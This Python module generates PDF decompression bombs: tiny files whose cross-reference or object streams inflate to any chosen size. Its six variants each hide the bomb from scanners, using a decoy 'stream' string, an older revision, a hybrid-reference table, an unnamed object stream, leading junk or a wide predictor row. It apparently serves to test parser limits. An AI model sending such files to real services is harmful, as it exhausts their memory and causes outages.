"""Small PDFs that unpack to any size on the way to their objects, and hide it."""

import zlib

HEAD = b"%PDF-1.5\n1 0 obj\n<</Type/Catalog>>\nendobj\n"
PACKING = 1  # quick to make, and still a two-hundredth
DECOY = b"/A(stream\n)"  # what looks for the word finds it in here


def _end(pdf: bytes, at: int) -> bytes:
    return pdf + b"startxref\n%d\n%%%%EOF\n" % at


def _xref(entries: bytes, more: bytes = b"", size: int = 0) -> bytes:
    """An object with a cross-reference stream of entries, 6 bytes each."""
    packed = zlib.compress(entries, PACKING)
    about = b"/Type/XRef%s/W[1 4 1]/Size %d/Root 1 0 R/Filter/FlateDecode/Length %d"
    return b"9 0 obj\n<<%s>>\nstream\n%s\nendstream\nendobj\n" % (
        about % (more, size or len(entries) // 6, len(packed)),
        packed,
    )


def _entry(kind: int, place: int, last: int = 0) -> bytes:
    return bytes([kind]) + place.to_bytes(4, "big") + bytes([last])


def behind_a_decoy(unpacked: int) -> bytes:
    return _end(HEAD + _xref(bytes(unpacked // 6 * 6), DECOY), len(HEAD))


def in_an_older_revision(unpacked: int) -> bytes:
    """An innocent section whose /Prev leads to the bomb."""
    bomb = _xref(bytes(unpacked // 6 * 6), DECOY)
    newer = _xref(_entry(0, 0) + _entry(1, 9), b"/Prev %d" % len(HEAD))
    return _end(HEAD + bomb + newer, len(HEAD + bomb))


def beside_a_table(unpacked: int) -> bytes:
    """A plain table whose trailer names a hidden stream (hybrid-reference file)."""
    bomb = _xref(bytes(unpacked // 6 * 6), DECOY)
    table = b"xref\n0 2\n0000000000 65535 f \n%010d 00000 n \n" % 9
    trailer = b"trailer\n<</Size 2/Root 1 0 R/XRefStm %d>>\n" % len(HEAD)
    return _end(HEAD + bomb + table + trailer, len(HEAD + bomb))


def as_a_nameless_holder(unpacked: int) -> bytes:
    """The catalogue lies in a stream that does not call itself an object stream; readers unpack it all the same."""
    held = b"1 0 <</Type/Catalog/AcroForm<</Fields[]>>>>"
    packed = zlib.compress(held.ljust(unpacked), PACKING)
    about = b"/N 1/First 4/Filter/FlateDecode/Length %d" % len(packed)
    holder = b"2 0 obj\n<<%s>>\nstream\n%s\nendstream\nendobj\n" % (about, packed)
    return _end(HEAD + holder + _xref(_entry(0, 0) + _entry(2, 2) + _entry(1, len(HEAD))), len(HEAD + holder))


def behind_junk(unpacked: int) -> bytes:
    """Offsets count from the header, which may stand a little behind the file's start."""
    return b"junk\n" + behind_a_decoy(unpacked)


def by_a_wide_row(unpacked: int) -> bytes:
    """No large stream, but a row of the predictor's that must be made room for."""
    row = b"/DecodeParms<</Predictor 12/Columns %d>>" % unpacked
    return _end(HEAD + _xref(b"\0" + _entry(0, 0) + b"\2" + _entry(1, 9), row), len(HEAD))


ALL = (behind_a_decoy, in_an_older_revision, beside_a_table, as_a_nameless_holder, behind_junk, by_a_wide_row)
